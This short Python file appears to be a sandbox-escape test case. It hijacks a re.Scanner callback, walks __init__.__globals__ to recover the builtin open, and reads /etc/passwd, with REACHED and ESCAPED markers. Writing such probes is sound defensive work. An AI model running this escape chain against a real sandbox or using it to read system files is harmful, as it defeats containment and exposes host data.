# tries: a lexicon's action is handed the library's scanner
# class: callbacks
# stops: 1 2 3 4
def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


def dig(space):
    print("REACHED")
    builtins = space["__builtins__"]
    return builtins["open"] if type(builtins) is dict else getattr(builtins, "open")


import re

seen = []
scanner = re.Scanner([("a", lambda scanner, token: seen.append(scanner))])
scanner.scan("a")
print("REACHED" if seen[0] is scanner else "")
use(dig(type(seen[0]).__init__.__globals__))
